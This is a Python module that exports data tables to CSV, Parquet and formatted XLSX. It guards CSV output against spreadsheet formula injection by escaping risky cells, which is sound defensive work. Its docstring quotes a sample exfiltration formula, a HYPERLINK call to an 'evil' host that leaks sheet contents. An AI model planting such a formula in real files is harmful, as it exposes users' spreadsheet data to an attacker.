"""Tables as files people open: CSV a spreadsheet reads safely, and XLSX laid out for reading.

Text in Aurum's tables comes from vendors' workbooks (and from anyone who may publish one), and
files leave Aurum for spreadsheets. A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is run as a *formula* by Excel, LibreOffice and Google Sheets when it
arrives unescaped ("CSV injection": ``=HYPERLINK("http://evil/?"&A1, "Click")`` leaks the sheet).

* **CSV**: every such *text* cell gets a leading ``'`` (``'=HYPERLINK(…)``), which spreadsheets
  show as text; numbers never change (a negative price keeps its sign). On by default;
  ``AURUM_FILES__NEUTRALISE_FORMULAS=false`` turns it off for consumers that are programs.
* **XLSX**: text is always written as a string cell, never as a formula: nothing to escape.

Nested values (lists, structs, maps: ``qa_checks.sample_keys``) are written as JSON text in both
(``["a","b"]``), so every column of every table can be written and read back.

XLSX is written by rust_xlsxwriter (``rvgsrust-xlsxwriter``) straight from Arrow: the bare cells
of one vendor-day (11,483 rows) take ~0.2 s where openpyxl took ~3 s (``bench/exports.py``).
Each :class:`Sheet` gets a styled header (bold, filled, bordered), frozen header rows (and
leading columns), a filter on its last header row and column widths from its data.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, BinaryIO

import orjson
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv
import pyarrow.parquet as pq

from aurum.domain.identity import FORMULA_PREFIXES

__all__ = [
    "Sheet",
    "column_letter",
    "csv_bytes",
    "json_rows",
    "neutralise",
    "write_csv",
    "write_parquet",
    "write_xlsx",
]

_RISKY = "^[" + "".join("\\" + c if c in "-\\]^" else c for c in FORMULA_PREFIXES) + "]"
_TEXT_TYPES = (pa.string(), pa.large_string())


def neutralise(table: pa.Table) -> pa.Table:
    """``table`` with a ``'`` before every text value a spreadsheet would run as a formula.

    >>> neutralise(pa.table({"name": ["=1+1", "TTF", None], "price": [-1.5, 2.0, 3.0]})).to_pydict()
    {'name': ["'=1+1", 'TTF', None], 'price': [-1.5, 2.0, 3.0]}
    """
    columns = []
    for column in table.columns:
        if column.type in _TEXT_TYPES:
            risky = pc.match_substring_regex(column, _RISKY)
            column = pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    return pa.Table.from_arrays(columns, names=table.column_names)


def _json_text(column: pa.ChunkedArray) -> pa.Array:
    """A nested column as JSON text, one document per value (nulls stay null)."""
    return pa.array(
        [
            None
            if value is None
            else orjson.dumps(value, default=str, option=orjson.OPT_NON_STR_KEYS).decode()
            for value in column.to_pylist(maps_as_pydicts="lossy")
        ],
        pa.string(),
    )


def _flatten(table: pa.Table) -> pa.Table:
    """``table`` with every nested column (list, struct, map) as JSON text.

    >>> _flatten(pa.table({"keys": [["=a|b", None], []], "n": [1, 2]})).to_pydict()
    {'keys': ['["=a|b",null]', '[]'], 'n': [1, 2]}
    """
    if not any(pa.types.is_nested(column.type) for column in table.columns):
        return table
    columns = [
        _json_text(column) if pa.types.is_nested(column.type) else column
        for column in table.columns
    ]
    return pa.Table.from_arrays(columns, names=table.column_names)


def _prepared(table: pa.Table, neutralised: bool) -> pa.Table:
    flat = _flatten(table)
    return neutralise(flat) if neutralised else flat


def csv_bytes(table: pa.Table, *, neutralised: bool = True) -> bytes:
    """A small table as CSV the way Excel reads it: a header, ``\\r\\n`` lines, quotes only where
    needed, ISO dates, empty cells for nulls (the API's ``format=csv``)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(table.column_names)
    for batch in _prepared(table, neutralised).to_batches(8192):  # never all rows as dicts
        for row in zip(*(column.to_pylist() for column in batch.columns), strict=True):
            writer.writerow(["" if v is None else v for v in row])
    return out.getvalue().encode()


Rows = pa.Table | pa.RecordBatchReader


def _tables(rows: Rows) -> Iterator[pa.Table]:
    """``rows`` a table at a time: the table itself, or each batch of a reader (at least one,
    so an empty answer still has its header)."""
    if isinstance(rows, pa.Table):
        yield rows
        return
    empty = True
    for batch in rows:
        empty = False
        yield pa.Table.from_batches([batch])
    if empty:
        yield rows.schema.empty_table()


@contextmanager
def _whole(sink: Path | BinaryIO) -> Iterator[Path | BinaryIO]:
    """Where to write a file that must be whole or absent: beside a path, under a temporary
    name moved into place once every row is written (an error midway leaves no file, and never
    a valid-looking part of one); a stream as it is."""
    if not isinstance(sink, Path):
        yield sink
        return
    part = sink.with_name(f".{sink.name}.part")
    try:
        yield part
        if part.exists():  # (a writer that never opened wrote nothing)
            os.replace(part, sink)
    finally:
        part.unlink(missing_ok=True)


def write_csv(rows: Rows, sink: Path | BinaryIO, *, neutralised: bool = True) -> None:
    """A table, or a reader's batches as they come, as a CSV file (Arrow's writer); a file
    at a path is whole or not there."""
    with _whole(sink) as target:
        writer = None
        try:
            for table in _tables(rows):
                prepared = _prepared(table, neutralised)
                writer = writer or pacsv.CSVWriter(target, prepared.schema)
                writer.write_table(prepared)
        finally:
            if writer is not None:
                writer.close()


def write_parquet(rows: Rows, sink: Path | BinaryIO) -> None:
    """A table, or a reader's batches as they come, as a Parquet file (zstd); a file at a
    path is whole or not there."""
    schema = rows.schema
    with _whole(sink) as target, pq.ParquetWriter(target, schema, compression="zstd") as writer:
        for table in _tables(rows):
            writer.write_table(table)


# -- XLSX --------------------------------------------------------------------------------------


def column_letter(index: int) -> str:
    """Excel's letters for the 0-based column ``index``.

    >>> [column_letter(i) for i in (0, 2, 25, 26, 366, 701, 702)]
    ['A', 'C', 'Z', 'AA', 'NC', 'ZZ', 'AAA']
    """
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


DATE_FORMAT = "yyyy-mm-dd"
_TIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
_HEADER_FILL = "#DDEBF7"
_HEADER_BORDER = "#8EA9DB"
# Widths in characters: a header label longer than _WRAP wraps rather than widening its column.
_WRAP, _NARROWEST, _WIDEST = 18, 6, 60


@dataclass(frozen=True)
class Sheet:
    """One sheet of a workbook: ``table`` under ``header``.

    ``header`` is rows of labels above the data (``None``: an empty cell); the last row names
    the columns and carries the filter. Empty: one row of the column names. ``frozen_columns``
    stay in view when scrolling right (the header rows always do). ``formats`` gives an Excel
    number format per column; dates are ``yyyy-mm-dd`` unless it says otherwise.
    """

    name: str
    table: pa.Table
    header: tuple[tuple[str | None, ...], ...] = ()
    frozen_columns: int = 0
    formats: Mapping[str, str] = field(default_factory=dict)

    @property
    def header_rows(self) -> tuple[tuple[str | None, ...], ...]:
        return self.header or (tuple(self.table.column_names),)


def write_xlsx(sheets: Sequence[Sheet], path: Path) -> None:
    """``sheets`` as one ``.xlsx`` file, in order (the first is the one that opens); text is
    never a formula.

    Rows are streamed to disk as they are written (rust_xlsxwriter's constant-memory mode), so
    strings are inline in each sheet's XML, and memory stays one batch whatever the rows.
    """
    from rvgsrust_xlsxwriter import Workbook

    book = Workbook()
    header = book.add_format()
    header.set_bold().set_background_color(_HEADER_FILL).set_text_wrap()
    header.set_bottom_border("thin").set_border_bottom_color(_HEADER_BORDER)
    header.set_vertical_align("top")
    number_formats: dict[str, object] = {}

    def number_format(code: str) -> object:
        if code not in number_formats:
            number_formats[code] = book.add_format().set_num_format(code)
        return number_formats[code]

    for sheet in sheets:
        out = book.add_worksheet(sheet.name, constant_memory=True)
        cells = _cells(sheet.table)
        labels = sheet.header_rows
        for index, width in enumerate(_widths(cells, labels)):
            out.set_column_width(index, width)
        for row, values in enumerate(labels):
            for column, value in enumerate(values):
                if value is not None:
                    out.write(row, column, value, header)  # a str is always a string cell
        names = [f"c{i}" for i in range(cells.num_columns)]  # unique, whatever the header says
        formats = {
            names[i]: number_format(code)
            for i, code in enumerate(_number_formats(cells, sheet.formats))
            if code is not None
        }
        if cells.num_rows:
            out.write_dataframe(
                len(labels), 0, cells.rename_columns(names), write_header=False,
                column_formats=formats,
            )  # fmt: skip
        top = len(labels) - 1
        out.freeze_panes(len(labels), sheet.frozen_columns)
        out.autofilter(top, 0, top + cells.num_rows, max(cells.num_columns - 1, 0))
    book.close(str(path))


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """``sheets`` as the bytes of one ``.xlsx`` file (an API answer with ``format=xlsx``)."""
    with tempfile.TemporaryDirectory(prefix="aurum-xlsx-") as scratch:
        path = Path(scratch) / "answer.xlsx"
        write_xlsx(sheets, path)
        return path.read_bytes()


def _number_formats(cells: pa.Table, formats: Mapping[str, str]) -> list[str | None]:
    codes: list[str | None] = []
    for name, column in zip(cells.column_names, cells.columns, strict=True):
        if name in formats:
            codes.append(formats[name])
        elif pa.types.is_date(column.type):
            codes.append(DATE_FORMAT)
        elif pa.types.is_timestamp(column.type):
            codes.append(_TIME_FORMAT)
        else:
            codes.append(None)
    return codes


def _cells(table: pa.Table) -> pa.Table:
    """``table`` in the types the XLSX writer takes: nested values as JSON text, dictionaries
    decoded, NaN as an empty cell (Excel has no NaN), times in UTC without a zone, decimals as
    floats, anything else as text."""
    columns = []
    for column in _flatten(table).columns:
        kind = column.type
        if pa.types.is_dictionary(kind):
            column = column.cast(kind.value_type)
            kind = column.type
        if pa.types.is_floating(kind):
            column = pc.if_else(pc.is_nan(column), pa.scalar(None, kind), column)
        elif pa.types.is_timestamp(kind) and kind.tz is not None:
            column = column.cast(pa.timestamp(kind.unit))
        elif pa.types.is_decimal(kind):
            column = column.cast(pa.float64())
        elif not (
            pa.types.is_integer(kind)
            or pa.types.is_string(kind)
            or pa.types.is_large_string(kind)
            or pa.types.is_boolean(kind)
            or pa.types.is_date(kind)
            or pa.types.is_timestamp(kind)
        ):
            text = [None if value is None else str(value) for value in column.to_pylist()]
            column = pa.array(text, pa.string())
        columns.append(column)
    return pa.Table.from_arrays(columns, names=table.column_names)


def _widths(cells: pa.Table, header: Sequence[Sequence[str | None]]) -> list[float]:
    """Each column's width in characters: its longest value or its header label (a long label
    wraps), within [6, 60]."""
    widths = []
    for index, column in enumerate(cells.columns):
        labels = [row[index] for row in header if index < len(row) and row[index]]
        label = min(max((len(text) for text in labels), default=0), _WRAP)
        widths.append(float(min(max(_data_width(column), label, _NARROWEST - 2) + 2, _WIDEST)))
    return widths


def _data_width(column: pa.ChunkedArray) -> int:
    kind = column.type
    if column.null_count == len(column):
        return 0
    if pa.types.is_string(kind) or pa.types.is_large_string(kind):
        return int(pc.max(pc.utf8_length(column)).as_py() or 0)
    if pa.types.is_date(kind):
        return len(DATE_FORMAT)
    if pa.types.is_timestamp(kind):
        return len(_TIME_FORMAT)
    if pa.types.is_floating(kind):
        return 12  # what General shows of a price: 11 significant digits
    if pa.types.is_integer(kind):
        extremes = pc.min_max(column).as_py()
        return max(len(str(extremes["min"])), len(str(extremes["max"])))
    return 5


_SECONDS = pa.timestamp("s", tz="UTC")


def json_rows(table: pa.Table) -> list[dict[str, Any]]:
    """``table.to_pylist()``, with whole-second UTC timestamps written as text by Arrow the
    way orjson writes them (``2025-05-01T04:00:00+00:00``): making a timezone-aware
    ``datetime`` per value is most of a JSON answer's cost (8 ms of 720 intervals).

    >>> import datetime as dt
    >>> t = pa.table({"at": pa.array([dt.datetime(2025, 5, 1, 4, tzinfo=dt.UTC), None],
    ...                              pa.timestamp("us", tz="UTC"))})
    >>> orjson.dumps(json_rows(t)) == orjson.dumps(t.to_pylist())
    True
    """
    for i, column_field in enumerate(table.schema):
        kind = column_field.type
        if not (pa.types.is_timestamp(kind) and kind.tz in ("UTC", "+00:00")):
            continue
        column = table.column(i)
        whole = pc.cast(column, _SECONDS, safe=False)
        if pc.all(pc.equal(pc.cast(whole, kind), column)).as_py() is False:
            continue  # sub-second values: orjson writes the fraction; leave them to it
        text = pc.strftime(whole, format="%Y-%m-%dT%H:%M:%S+00:00")
        table = table.set_column(i, column_field.name, text)
    return table.to_pylist()
